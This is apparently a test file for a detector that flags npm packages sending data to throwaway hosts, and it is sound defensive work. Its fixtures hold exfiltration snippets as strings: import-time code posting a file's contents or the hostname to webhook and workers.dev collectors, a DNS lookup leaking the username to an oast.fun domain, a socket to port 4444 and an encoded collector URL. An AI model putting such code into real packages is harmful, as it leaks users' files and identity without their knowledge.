import { examine } from '../../../test/examine.ts';
import { sendsToDeadDrop } from './sends-to-dead-drop.ts';

/** Written in parts: no test names a host that somebody answers on. */
const collector = ['webhook', 'site'].join('.');
const workers = ['none', 'workers', 'dev'].join('.');

examine(sendsToDeadDrop, {
  speaks: [
    {
      when: 'a cheap host is asked at import, and is sent what another file reads when somebody calls',
      files: {
        'index.js': `const { put } = require('./state'); const { load } = require('./files'); put('', {}); exports.push = async key => put(key, await load(key))`,
        'state.js': `exports.put = (key, state) => fetch('https://${workers}/' + key, { method: 'PUT', body: JSON.stringify(state) })`,
        'files.js': `const { readFile } = require('fs/promises'); exports.load = async key => JSON.parse(await readFile(key, 'utf8'))`,
      },
      weight: 'weak',
      says: ['connects to'],
    },
    {
      when: 'what another file reads at import goes to a cheap host',
      files: {
        'index.js': `const { put } = require('./state'); const { load } = require('./files'); load('.specimen').then(state => put('x', state)); exports.push = async key => put(key, await load(key))`,
        'state.js': `exports.put = (key, state) => fetch('https://${workers}/' + key, { method: 'PUT', body: JSON.stringify(state) })`,
        'files.js': `const { readFile } = require('fs/promises'); exports.load = async key => JSON.parse(await readFile(key, 'utf8'))`,
      },
      weight: 'strong',
      says: ['sends data to'],
    },
    {
      when: 'an import posts what it knows to a collector',
      files: { 'index.js': `fetch('https://${collector}/0', { method: 'POST', body: require('os').hostname() })` },
      weight: 'proof',
      says: ['a collector of requests'],
    },
    {
      when: 'an import only connects to a bare address',
      files: { 'index.js': `require('http').get('http://192.0.2.7/x')` },
      weight: 'strong',
      says: ['192.0.2.7'],
    },
    { when: 'a socket goes to a bare address', files: { 'index.js': `require('net').connect(4444, '192.0.2.7')` }, weight: 'strong' },
    {
      when: 'a name is looked up that carries data',
      files: { 'index.js': `require('dns').lookup(process.env.USER + '.${['oast', 'fun'].join('.')}', () => {})` },
      weight: 'proof',
    },
    {
      when: 'the address is encoded',
      files: { 'index.js': `fetch(atob('${Buffer.from(`https://${collector}/0`).toString('base64')}'))` },
      weight: 'strong',
    },
    {
      when: 'a call posts to a hidden service',
      files: { 'index.js': `exports.log = () => fetch('http://specimen.onion/x')` },
      weight: 'weak',
    },
    { when: 'an import asks a cheap host', files: { 'index.js': `fetch('https://${workers}/x')` }, weight: 'weak' },
  ],
  silent: [
    { when: 'a list of hosts is only data', files: { 'index.js': `module.exports = ['https://${collector}/', 'http://192.0.2.7']` } },
    {
      when: 'it talks to this machine and its network',
      files: {
        'index.js': `fetch('http://127.0.0.1:1/'); fetch('http://localhost:1/'); fetch('http://0.0.0.0/'); fetch('http://192.168.1.1/')`,
      },
    },
    {
      when: 'the caller brings the webhook',
      files: { 'index.js': `exports.post = (url, text) => fetch(url, { method: 'POST', body: text })` },
    },
    { when: 'it asks a service with a name', files: { 'index.js': `fetch('https://api.acme.invalid/')` } },
  ],
});
